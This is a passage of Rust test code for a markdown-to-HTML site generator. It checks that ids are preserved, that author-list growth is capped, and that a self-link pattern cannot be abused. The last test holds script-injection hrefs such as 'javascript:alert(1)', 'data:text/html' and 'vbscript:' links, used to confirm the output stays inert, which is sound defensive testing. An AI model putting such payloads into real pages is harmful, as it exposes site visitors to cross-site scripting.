    assert_eq!(page.texts("#hld\\:fn-1").len(), 1);
    assert!(page.texts("#hld\\:fn-1")[0].starts_with("note"), "the footnote keeps its id");
    assert_eq!(page.texts("#one"), ["One"], "the heading keeps its id");
    assert_eq!(page.texts("#after"), ["After"]);
}

#[test]
fn thousands_of_authors_do_not_multiply_the_site() {
    let names: Vec<String> = (0..5000).map(|at| format!("N{at}")).collect();
    let site = harness::site(&[("a.md", &format!("# T\n\nStatus: Draft\nAuthors: {}\n", names.join(", ")))]);
    assert!(site.files.len() < 200, "{} files", site.files.len());
    assert!(site.findings().iter().any(|finding| finding.contains("author-limit")), "{:?}", site.findings());
}

#[test]
fn a_pattern_for_own_addresses_opens_no_way_for_script() {
    let config = "self_links: ['acme/(.+)']\n";
    for href in ["javascript:alert(1)//acme/b.md", "JaVaScRiPt:x//acme/none.md", "data:text/html,acme/x", "vbscript:acme/x"] {
        let text = format!("# T\n\n* Status: Draft\n* Issue: [x]({href})\n* Replaces: [y]({href})\n* Note: <a href=\"{href}\">z</a>\n\n[text]({href})\n");
        let site = harness::site_with(config, &[("a.md", &text), ("b.md", "# B\n")], &[]);
        assert_all_inert(&site);
        let hrefs = site.page("a.html").attributes("a", "href");
        assert!(hrefs.iter().all(|found| !found.to_lowercase().contains("script:") && !found.starts_with("data:")), "{href}: {hrefs:?}");
    }
}
